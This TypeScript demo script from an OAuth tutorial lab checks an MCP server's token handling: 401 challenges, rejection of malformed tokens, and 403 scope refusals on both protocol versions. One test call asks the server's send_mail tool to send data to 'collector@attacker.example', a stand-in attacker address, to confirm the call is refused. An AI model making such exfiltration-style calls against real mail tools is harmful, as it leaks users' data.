/**
 * Lesson 6's demo, run by `npm run lesson:6` once the server listens: lesson 4's server, now on SDK v2,
 * as a v2 client sees it. The 401 and its challenge, a malformed token refused with 401 (not 500),
 * then the daemon's token through the v2 client on both protocol eras: whoami works, send_mail gets
 * the tool's own 403 scope challenge. It ends with how to sign in from MCP Inspector.
 *
 * It never throws: when a step shows that a TODO is not done yet, it says which one and stops.
 */
import { ConfidentialClientApplication } from '@azure/msal-node';
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { APPS } from '../shared/emulator/directory.ts';
import type { DemoContext } from '../shared/lab/demo.ts';
import { callTool, describe, inspectorHelp } from './04-resource-server.ts';

const FOLDER = 'lessons/06-sdk-v2';
const MODERN = '2026-07-28';

export async function demo(ctx: DemoContext): Promise<void> {
  const { log, mcpUrl, config } = ctx;
  const stuck = (what: string, todo: string, file: string) => log(`${what} Finish ${todo} in ${FOLDER}/${file}, then run: npm run check:6`);

  // 1. No token at all: the same challenge as in lesson 4, from @modelcontextprotocol/express.
  const anonymous = await callTool(mcpUrl, undefined, 'whoami');
  if (anonymous.status !== 401) return stuck(`Without a token, POST /mcp answered HTTP ${anonymous.status}, not 401: anyone can still call the tools.`, 'TODO 6.1', 'app.ts');
  log(`Without a token: HTTP 401 with WWW-Authenticate: ${anonymous.challenge}`);

  // 2. v2 decides 401 or 500 by the error's OAuth code.
  const malformed = await callTool(mcpUrl, 'not-a-jwt', 'whoami');
  if (malformed.status >= 500) return stuck(`A malformed token made the server answer ${malformed.status}: v2 turns every error without the invalid_token code into a 500.`, 'TODO 6.2', 'verifier.ts');
  log(`A malformed token: HTTP ${malformed.status} (${describe(malformed.challenge)}): the verifier refused it with an OAuthError.`);

  if (config.mode !== 'offline') {
    log('With a real tenant the rest of this demo needs a signed-in user: use MCP Inspector as shown below.');
    return inspectorHelp(ctx);
  }

  // 3. The daemon's token for this API (app role Tools.Read.All), through the v2 client, on both eras.
  const daemon = new ConfidentialClientApplication({
    auth: { clientId: APPS.daemon.clientId, clientSecret: APPS.daemon.secrets[0], ...config.entra.msal },
  });
  const token = (await daemon.acquireTokenByClientCredential({ scopes: [`${config.entra.apiAppIdUri}/.default`] }))?.accessToken;
  const eras = [
    { era: '2025 (initialize)', mode: 'legacy' as const, todo: 'TODO 6.1' },
    { era: MODERN, mode: { pin: MODERN }, todo: 'TODO 6.5' },
  ];
  for (const { era, mode, todo } of eras) {
    const client = new Client({ name: 'lesson-6-demo', version: '1.0.0' }, { versionNegotiation: { mode } });
    try {
      await client.connect(new StreamableHTTPClientTransport(mcpUrl, { requestInit: { headers: { authorization: `Bearer ${token}` } } }));
    } catch (error) {
      return stuck(`A v2 client could not connect on the ${era} protocol: ${(error as Error).message.split('\n')[0]}.`, todo, 'app.ts');
    }
    try {
      const who = await client.callTool({ name: 'whoami', arguments: {} });
      const text = (who.content as Array<{ text?: string }>).map((block) => block.text ?? '').join('');
      if (who.isError) return stuck(`whoami on the ${era} protocol answered: ${text}`, 'TODO 6.3', 'tools.ts');
      const caller = JSON.parse(text) as { kind: string; oid: string; roles: string[] };
      log(`v2 client, ${era} protocol: whoami → ${caller.kind === 'app' ? 'an app-only' : 'a user'} caller, oid ${caller.oid}, roles ${caller.roles.join(', ')}.`);
      try {
        await client.callTool({ name: 'send_mail', arguments: { to: 'collector@attacker.example', subject: 'C-1001', body: 'x' } });
        return stuck(`send_mail with the daemon's token was not refused on the ${era} protocol: an app-only caller has no mail.send.`, 'TODO 6.4', 'scopes.ts');
      } catch (error) {
        const challenge = error as Error & { requiredScope?: string; errorDescription?: string };
        if (challenge.name !== 'InsufficientScopeError') return stuck(`send_mail failed, but not with a scope challenge: ${challenge.message.split('\n')[0]}.`, 'TODO 6.4', 'scopes.ts');
        log(`    send_mail → 403 insufficient_scope (${challenge.errorDescription ?? 'no description'}); the v2 client reports InsufficientScopeError for scope "${challenge.requiredScope}".`);
      }
    } finally {
      await client.close();
    }
  }
  log('A signed-in user\'s client would step up: ask for the scopes in the challenge and retry once.');
  inspectorHelp(ctx);
}
